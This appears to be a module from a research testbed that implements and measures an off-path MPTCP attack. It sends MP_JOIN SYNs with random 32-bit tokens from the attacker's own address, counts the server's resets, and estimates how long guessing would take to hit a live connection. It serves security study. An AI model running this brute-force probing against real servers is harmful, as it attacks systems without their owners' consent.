"""``join_guessed_token``: an off-path host sends MP_JOIN SYNs with random 32-bit tokens to
the victim's server (claim O2).

The SYNs come from the attacker's OWN address. Spoofing a source the server would accept
(e.g. the client's second address) changes nothing for the server, which looks the token
up before anything else, but a spoofer never sees the answer: it could not tell a hit (a
SYN/ACK) from a miss (a reset). A guessing attacker must receive the answers, so it uses
an address that routes back to it. Each miss is reset by the server with MP_TCPRST and
counted as MPTcpExtMPJoinNoTokenFound; the victim's connection is untouched.

The SYNs go out through ``testbed.runtime.rawsend`` (packets built once; source port,
sequence number and token patched in place; ``sendmmsg`` batches of 256 on a raw socket,
from one pinned core: see ``attacks.mptcp_worker.op_guess``); each reset is matched to
its guess by (source port, sequence). The report gives the rate achieved (attempts / the
send loop's time) and the expected time to hit a live token: with L live connections on
the server, one random guess hits with probability L / 2^32, so the expected number of
guesses is 2^32 / L, and the time 2^32 / L / rate.
"""

from __future__ import annotations

from typing import Any, ClassVar

from attacks._mptcp_active import ActiveMptcpAttack
from testbed.model.params import ParamSpec

TOKEN_SPACE = 1 << 32


class JoinGuessedToken(ActiveMptcpAttack):
    kind: ClassVar[str] = "join_guessed_token"
    description: ClassVar[str] = ("off-path MP_JOIN SYNs with random tokens from the "
                                  "attacker's own address; counts the resets, reports the "
                                  "rate and the expected time to hit a live token (O2)")
    positions: ClassVar[tuple[str, ...]] = ("off_path",)
    params: ClassVar[dict[str, ParamSpec]] = {
        "attempts": ParamSpec("attempts", int, 200, "number of MP_JOIN SYNs (random tokens)",
                              lo=1, hi=100000),
    }

    result: dict[str, Any] | None = None

    def act(self) -> None:
        live = self.live_server_connections()
        attempts = int(self.values["attempts"])
        reply = self.ask({"op": "guess", "server": self.ctx.server_address,
                          "port": self.ctx.port, "attempts": attempts,
                          "wait_s": 2.0 + attempts / 10000}, timeout=30 + attempts / 1000)
        reply["live_connections"] = live
        rate = reply.get("rate_per_s")
        if rate:
            guesses = TOKEN_SPACE / live
            reply["expected_guesses_to_hit"] = round(guesses)
            reply["expected_time_to_hit_s"] = round(guesses / rate, 1)
            reply["expected_time_to_hit_h"] = round(guesses / rate / 3600, 2)
        reply["all_reset"] = reply.get("resets") == attempts and not reply.get("synacks")
        reply["attacker_address"] = self.ctx.address
        reply["source"] = "the attacker's own address (a spoofer would not see the answers)"
        self.result = reply

    def finish(self) -> dict[str, Any]:
        return self.result or {"error": "the attack did not act"}

